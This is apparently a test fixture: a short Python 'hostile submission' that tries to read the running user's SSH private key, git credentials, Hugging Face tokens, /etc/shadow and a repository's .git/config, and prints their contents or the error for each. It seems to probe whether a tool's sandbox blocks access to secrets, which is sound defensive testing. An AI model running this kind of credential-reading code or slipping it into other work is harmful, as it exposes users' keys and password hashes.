# Hostile submission: reads the credentials of the user running autofix (an SSH key, git's
# credential store, the Hugging Face token, in the home folder and in HF_HOME) and
# /etc/shadow, and prints what it got on one line (the report shows a run's last line).
import os

HOME = os.path.expanduser("@HOME@")
targets = {"ssh": f"{HOME}/.ssh/id_rsa", "git": f"{HOME}/.git-credentials",
           "hf": f"{HOME}/.cache/huggingface/token",
           "hf_home": os.path.join(os.environ.get("HF_HOME", "/nonexistent"), "token"),
           "shadow": "/etc/shadow", "repo": "@REPO@/.git/config"}
results = []
for name, path in targets.items():
    try:
        with open(path) as fh:
            results.append(f"{name}: READ {' / '.join(fh.read().split())}")
    except OSError as exc:
        results.append(f"{name}: {type(exc).__name__} errno {exc.errno}")
print("; ".join(results))
